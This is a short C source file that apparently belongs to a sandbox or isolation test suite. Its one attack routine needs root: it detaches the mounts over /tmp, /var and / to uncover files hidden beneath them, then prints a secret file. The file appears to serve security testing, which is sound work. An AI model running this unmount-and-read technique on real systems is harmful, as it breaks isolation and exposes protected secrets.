#include "attack.h"
// Takes off what covers the hidden things; root only.
ATTACK(.judge = "secret:file", .needs = "root") {
  if (!own_mounts()) return;
  umount2("/tmp", MNT_DETACH), umount2("/var", MNT_DETACH), umount2("/", MNT_DETACH);
  cat(arg("secret"));
}
